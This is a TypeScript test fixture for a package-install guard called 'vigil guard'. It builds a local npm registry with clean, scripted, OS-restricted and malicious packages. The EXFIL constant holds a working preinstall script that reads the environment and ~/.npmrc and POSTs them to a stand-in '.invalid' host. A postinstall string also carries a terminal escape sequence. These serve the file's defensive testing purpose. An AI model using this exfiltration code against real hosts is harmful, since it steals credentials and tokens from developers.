/**
 * The world `vigil guard` tests run in: a local registry on 127.0.0.1 with a clean package, a
 * package whose preinstall steals the environment and .npmrc (sent to an `.invalid` host; it also
 * writes a marker file if it ever runs), a package with a harmless install script, and one that
 * installs only on another operating system. Package
 * managers get an empty temporary HOME, cache and user config, so nothing touches the network or
 * the user's files.
 */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, lstatSync, mkdtempSync, readFileSync, readdirSync, readlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join, relative, resolve } from 'node:path';
import { promisify } from 'node:util';
import { startRegistryServer, type RegistryServer } from './registry-server.js';
import { publish } from './publish.js';

const run = promisify(execFile);
export const ROOT = resolve(import.meta.dirname, '..', '..');
export const BIN = join(ROOT, 'bin', 'vigil.js');

/** A preinstall that sends the environment and ~/.npmrc to an `.invalid` host (and writes the marker if it ever runs). */
export const EXFIL = [
  "const fs = require('fs'); const os = require('os'); const path = require('path'); const https = require('https');",
  "let npmrc = ''; try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}",
  'const body = JSON.stringify({ env: process.env, npmrc });',
  "if (process.env.GUARD_TEST_MARKER) fs.writeFileSync(process.env.GUARD_TEST_MARKER, 'ran');",
  "const req = https.request({ hostname: 'collect.exfil.invalid', method: 'POST', path: '/k' }); req.on('error', () => {}); req.end(body);",
].join('\n');

/** An operating system npm's platform check rejects here. */
export const OTHER_OS = process.platform === 'aix' ? 'sunos' : 'aix';

export interface GuardWorld {
  reg: RegistryServer;
  tmp: string;
  marker: string;
  env: NodeJS.ProcessEnv;
  sh(cmd: string, args: string[], cwd: string): Promise<{ code: number; stdout: string; stderr: string }>;
  /** `vigil guard --store <tmp>/store.db ARGS` in `cwd`. */
  guard(cwd: string, args: string[]): Promise<{ code: number; stdout: string; stderr: string }>;
}

export async function startGuardWorld(): Promise<GuardWorld> {
  const tmp = mkdtempSync(join(tmpdir(), 'vigil-guard-'));
  const reg = await startRegistryServer();
  await publish(reg, { name: 'base-pkg', version: '1.0.0' });
  await publish(reg, { name: 'base-pkg', version: '2.0.0' });
  await publish(reg, { name: 'dep-b', version: '1.5.0' });
  await publish(reg, { name: 'dep-b', version: '2.0.1' });
  // Needs a base-pkg the project's root level does not hold (npm nests it) and a dep-b nothing has yet.
  await publish(reg, { name: 'nested-pkg', version: '1.0.0', dependencies: { 'base-pkg': '^2.0.0', 'dep-b': '^1.0.0' } });
  await publish(reg, {
    name: 'good-pkg',
    version: '1.2.0',
    dependencies: { 'base-pkg': '^1.0.0', 'dep-b': '^2.0.0' },
    files: { 'index.js': 'module.exports = (a, b) => a + b;\n' },
  });
  await publish(reg, {
    name: 'evil-pkg',
    version: '1.0.0',
    scripts: { preinstall: 'node preinstall.js' },
    bin: { 'evil-pkg': 'cli.js' },
    files: { 'preinstall.js': EXFIL, 'cli.js': '#!/usr/bin/env node\nconsole.log("hi");\n' },
  });
  await publish(reg, {
    name: 'scripted-pkg',
    version: '3.0.0',
    scripts: { postinstall: 'node setup.js # \u001b[2J (a clear-screen sequence the report must make inert)' },
    files: { 'setup.js': "console.log('scripted-pkg configured');\n" },
  });
  await publish(reg, { name: 'flaky-pkg', version: '1.0.0' });
  // Installs only on an operating system this machine is not (as fsevents does off macOS).
  await publish(reg, { name: 'other-os-pkg', version: '1.0.0', os: [OTHER_OS] });
  const marker = join(tmp, 'PWNED');
  const env: NodeJS.ProcessEnv = {
    ...process.env,
    CI: '1',
    NO_COLOR: '1',
    HOME: tmp,
    XDG_CACHE_HOME: join(tmp, 'xdg-cache'),
    XDG_DATA_HOME: join(tmp, 'xdg-data'),
    // The repository's pinned package managers (pnpm 9 and Yarn 4 are devDependencies) before the
    // system's, so CI and every machine run the same majors; npm itself comes from the system.
    PATH: `${join(ROOT, 'node_modules', '.bin')}${delimiter}${process.env.PATH ?? ''}`,
    npm_config_userconfig: join(tmp, 'no-user.npmrc'),
    npm_config_cache: join(tmp, 'npm-cache'),
    npm_config_store_dir: join(tmp, 'pnpm-store'),
    npm_config_update_notifier: 'false',
    npm_config_audit: 'false',
    npm_config_fund: 'false',
    YARN_ENABLE_TELEMETRY: '0',
    YARN_ENABLE_GLOBAL_CACHE: '0',
    YARN_ENABLE_PROGRESS_BARS: '0',
    GUARD_TEST_MARKER: marker,
  };
  const sh = async (cmd: string, args: string[], cwd: string) => {
    try {
      const r = await run(cmd, args, { cwd, env, maxBuffer: 64 << 20 });
      return { code: 0, stdout: r.stdout, stderr: r.stderr };
    } catch (e) {
      const err = e as { code: number; stdout: string; stderr: string };
      return { code: err.code, stdout: err.stdout, stderr: err.stderr };
    }
  };
  return {
    reg,
    tmp,
    marker,
    env,
    sh,
    guard: (cwd, args) => sh(process.execPath, [BIN, 'guard', '--store', join(tmp, 'store.db'), ...args], cwd),
  };
}

/** sha256 over the named files and folders (symlinks hashed as their target, never followed). */
export function treeHash(dir: string, entries: string[]): string {
  const h = createHash('sha256');
  const walk = (p: string) => {
    const st = lstatSync(p);
    if (st.isSymbolicLink()) h.update(`${relative(dir, p)}\0->${readlinkSync(p)}\0`);
    else if (st.isDirectory()) for (const n of readdirSync(p).sort()) walk(join(p, n));
    else
      h.update(`${relative(dir, p)}\0`)
        .update(readFileSync(p))
        .update('\0');
  };
  for (const f of entries) if (existsSync(join(dir, f))) walk(join(dir, f));
  return h.digest('hex');
}

/** Finds a program on the test PATH, or undefined. */
export function onPath(env: NodeJS.ProcessEnv, name: string): string | undefined {
  for (const d of (env.PATH ?? '').split(delimiter)) if (d && existsSync(join(d, name))) return join(d, name);
  return undefined;
}
